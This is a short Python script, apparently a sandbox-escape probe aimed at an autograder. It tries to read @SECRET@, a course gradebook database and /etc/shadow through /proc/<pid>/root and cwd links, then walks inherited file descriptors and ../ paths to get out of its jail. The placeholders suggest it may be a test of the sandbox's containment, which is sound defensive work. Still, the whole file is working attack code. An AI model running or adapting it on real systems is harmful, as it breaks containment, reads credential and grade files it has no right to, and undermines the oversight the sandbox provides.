import os

for pid in ("1", "self", str(os.getppid())):
    for door in ("root", "cwd"):
        for target in ("@SECRET@", "@COURSE@/gradebook.db", "etc/shadow"):
            try:
                with open(f"/proc/{pid}/{door}/{target.lstrip('/')}", "rb") as file:
                    print(file.read())
            except OSError as error:
                print(error)
for fd in range(256):
    try:
        inside = os.open("..", os.O_RDONLY, dir_fd=fd)
        print(fd, os.listdir(inside))
        print(os.open("../../../../../../../../@SECRET@", os.O_RDONLY, dir_fd=inside))
    except OSError:
        pass
